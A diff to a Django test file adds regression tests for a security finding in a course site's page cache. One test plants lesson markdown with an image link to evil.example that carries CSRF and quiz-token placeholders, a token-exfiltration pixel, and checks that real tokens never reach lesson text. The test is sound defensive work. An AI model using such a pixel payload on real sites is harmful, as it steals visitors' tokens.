@@ -125,3 +125,46 @@ def test_another_process_import_is_seen_within_the_refresh_interval(lesson, monk
     assert caching.content_version() == before  # still remembered
     time.sleep(0.06)
     assert caching.content_version() != before
+
+
+HOSTILE_BODY = """\
+## Tokens
+Here are GLASSBOXCSRFSLOT and GLASSBOXQUIZTOKENSLOT in plain text.
+
+![pixel](https://evil.example/p.png?c=GLASSBOXCSRFSLOT&t=GLASSBOXQUIZTOKENSLOT)
+
+## Quiz
+1. Which?
+   - [x] This
+   - [ ] That
+"""
+
+
+@pytest.mark.parametrize("signed_in", [False, True])
+def test_lesson_text_cannot_pull_visitors_tokens_into_the_page(content_root, signed_in):
+    """Issue #16, finding 5: a lesson holding the page cache's old placeholder strings."""
+    from courses.caching import page_slot
+    from tests.factories import write_course, write_lesson
+
+    write_course(content_root)
+    write_lesson(content_root, name="01-lesson-1.md", title="Lesson 1", body=HOSTILE_BODY)
+    import_content(content_root)
+    browser = Client()
+    if signed_in:
+        browser.force_login(make_user())
+    for _ in range(6):  # cached variants too
+        html = browser.get(URL).content.decode()
+        for csrf in re.findall(r'name="csrfmiddlewaretoken" value="([^"]+)"', html):
+            # only in its forms' inputs, nowhere in the lesson text
+            assert html.count(csrf) == html.count(f'name="csrfmiddlewaretoken" value="{csrf}"')
+        assert html.count(token_of(html)) == 1
+        assert "https://evil.example/p.png?c=GLASSBOXCSRFSLOT&amp;t=GLASSBOXQUIZTOKENSLOT" in html
+        assert page_slot("csrf") not in html and page_slot("quiz-token") not in html
+
+
+def test_the_placeholders_depend_on_the_secret_key(settings):
+    from courses.caching import page_slot
+
+    first = page_slot("csrf")
+    settings.SECRET_KEY = "another-secret-key-" + "y" * 40
+    assert page_slot("csrf") != first and len(first) > 40
